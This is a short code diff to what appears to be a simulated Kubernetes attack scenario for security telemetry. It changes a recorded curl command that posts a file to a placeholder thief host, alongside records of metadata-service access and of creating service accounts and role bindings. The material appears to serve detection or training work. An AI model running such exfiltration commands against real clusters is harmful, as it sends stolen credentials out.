@@ -69,7 +69,7 @@ function records(world: World): readonly ScenarioRecord[] {
       'key',
     ),
     hubbleFlow(world, pod, { ip: '169.254.169.254', port: 80 }, at(20.31), 'attack'),
-    tetragonExec(world, pod, '/usr/bin/curl', `-s -d @/tmp/c https://${thief}/u`, at(20.8), 'key'),
+    tetragonExec(world, pod, '/usr/bin/curl', `-s -d @/var/tmp/c https://${thief}/u`, at(20.8), 'key'),
     call(nodeRole, { verb: 'list', resource: 'secrets', code: 403 }, 31.4),
     call(nodeRole, made('serviceaccounts', {}), 33),
     call(nodeRole, made('rolebindings', { group: 'rbac.authorization.k8s.io', object: binding }), 33.3),
